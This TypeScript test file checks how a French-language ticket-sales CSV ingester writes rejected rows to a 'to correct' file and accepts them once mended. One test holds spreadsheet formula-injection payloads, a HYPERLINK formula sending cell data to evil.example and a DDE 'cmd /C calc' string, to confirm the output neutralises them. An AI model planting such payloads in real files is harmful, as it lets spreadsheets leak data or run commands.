// The lines to correct come back as a file of their own: corrected there and handed in, it completes the delivery.
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import { leaksIn } from './leaks.ts';
import { MadePool } from './made-pool.ts';

const LINES = [
  'No commande;Spectacle;Date du spectacle;Date d’achat;Quantité;Montant total;Courriel;Note',
  ...Array.from(
    { length: 20 },
    (_, i) => `C1${i};La Pièce;2024-10-04 20:00;2024-09-01;2;40,00;ana@exemple.test;`,
  ),
  'C2;La Pièce;2024-10-04 20:00;le trois;2;40,00;zorglub@exemple.test;près; de la scène',
  'C2;La Pièce;2024-10-04 20:00;le trois;2;40,00;zorglub@exemple.test;"près; de la scène"',
  'C3;La Pièce;2024-10-04 20:00;2024-09-03;1;vingt;luc@exemple.test;',
];

let pool: MadePool;
before(async () => {
  pool = await MadePool.make();
});
after(() => pool.remove());

describe('lines to correct', () => {
  const folder = () => join(pool.folder, 'rejets');

  it('are written as the file has them, each with its line and what to do', async () => {
    const file = pool.file('ventes.csv', [...LINES, ''].join('\n'));
    const [receipt] = await pool.ingest([file], { options: ['--rejects', folder()] });
    assert.deepEqual(receipt?.rows, { read: 23, kept: 20, setAside: 3, excluded: 0 });
    assert.deepEqual(readdirSync(folder()), ['ventes à corriger.csv']);
    const [head, ...rows] = readFileSync(join(folder(), 'ventes à corriger.csv'), 'utf8')
      .trimEnd()
      .split(/\r?\n/);
    assert.equal(
      head,
      '\ufeffNo commande,Spectacle,Date du spectacle,Date d’achat,Quantité,Montant total,Courriel,Note,Ligne du fichier,À corriger',
    );
    assert.equal(rows.length, 3);
    assert.match(
      rows[0] ?? '',
      /^C2,La Pièce,2024-10-04 20:00,le trois,2,"40,00",zorglub@exemple\.test,près; de la scène,23,"?Date illisible dans la colonne «.Date d’achat.»/,
    );
    assert.match(rows[1] ?? '', /^C3,.*,24,"?.*«.Montant total.»/);
    // A field too many: what is too much stays in the last cell.
    assert.match(
      rows[2] ?? '',
      /^C2,.*,le trois,2,"40,00",zorglub@exemple\.test,près; de la scène,22,"?Cette ligne a 9.cases au lieu de 8/,
    );
  });

  it('complete the delivery once corrected', async () => {
    const written = readFileSync(join(folder(), 'ventes à corriger.csv'), 'utf8');
    const corrected = written.replaceAll('le trois', '2024-09-02').replace(',vingt,', ',"20,00",');
    const [receipt] = await pool.ingest([pool.file('corrigé.csv', corrected)]);
    assert.deepEqual(receipt?.rows, { read: 3, kept: 3, setAside: 0, excluded: 0 });
    assert.equal(await pool.figure('tickets-issued'), 45);
  });

  it('leave nothing of themselves in the pool', async () => {
    assert.deepEqual(await leaksIn(pool.root, ['zorglub', 'de la scène']), []);
  });

  it('hold nothing that a spreadsheet program would run, whatever a buyer typed', async () => {
    const typed = [`=HYPERLINK("http://evil.example/"&A1)`, `+cmd|' /C calc'!A0`, `@SUM(1)`];
    const kept = ['="00123"', '+1 514 555-0100', '-12'];
    const row = (note: string) =>
      `C8;La Pièce;2024-10-04 20:00;le trois;2;40,00;;"${note.replaceAll('"', '""')}"`;
    const tooMany = `C8;La Pièce;2024-10-04 20:00;2024-09-01;2;40,00;;=1+1;x`;
    const good = Array.from({ length: 90 }, (_, i) => LINES[1]?.replace('C10', `C7${i}`));
    const text = [LINES[0], ...good, ...[...typed, ...kept].map(row), tooMany, ''].join('\n');
    const options = ['--rejects', join(pool.folder, 'formules')];
    await pool.ingest([pool.file('formules.csv', text)], { organisation: 'maison-formules', options });
    const written = readFileSync(join(pool.folder, 'formules', 'formules à corriger.csv'), 'utf8');
    const quoted = (cell: string) => (/["]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
    for (const cell of [...typed, '=1+1'].map((one) => `'${one}`))
      assert.ok(written.includes(quoted(cell).slice(0, -1)), `${cell}\n${written}`);
    for (const cell of kept) assert.match(written, new RegExp(`[,"]${cell.replaceAll(/[+"]/g, '.+')}[,"]`));
    assert.doesNotMatch(written, /[,"](?:=HYP|\+cmd|@SUM|=1)/);
  });

  it('make no file where there are none', async () => {
    const good = pool.file('bon.csv', [LINES[0], LINES[1]?.replace('C10', 'C9'), ''].join('\n'));
    const empty = join(pool.folder, 'aucun');
    await pool.ingest([good], { options: ['--rejects', empty] });
    assert.equal(existsSync(empty), false);
  });

  it('are kept when they have quotes that never close or bytes that are no text, and completed when mended', async () => {
    const house = { organisation: 'maison-guillemets', options: ['--rejects', join(pool.folder, 'bris')] };
    const broken = Buffer.concat([
      Buffer.from(
        [...LINES.slice(0, 12), 'C4;"La Pièce;2024-10-04 20:00;2024-09-03;1;20,00;x@exemple.test;'].join(
          '\n',
        ),
      ),
      Buffer.from('\nC5;La Pièce;2024-10-04 20:00;2024-09-03;1;20,00;'),
      Buffer.from([0]),
      Buffer.from(';\n'),
    ]);
    const [receipt] = await pool.ingest([pool.file('bris.csv', broken)], house);
    const { setAside = 0, kept } = receipt?.rows ?? {};
    assert.equal(kept, 11);
    const written = readFileSync(join(pool.folder, 'bris', 'bris à corriger.csv'), 'utf8');
    const lines = written.trimEnd().split('\r\n').slice(1);
    assert.equal(lines.length, setAside);
    assert.ok(
      lines.every((line) => /^C[45],.*,1[34],/.test(line)),
      written,
    );
    const [mended] = await pool.ingest([pool.file('mendé.csv', written.replace('""La Pièce', 'La Pièce'))], {
      organisation: 'maison-guillemets',
    });
    assert.deepEqual(mended?.rows, { read: setAside, kept: setAside, setAside: 0, excluded: 0 });
  });
});
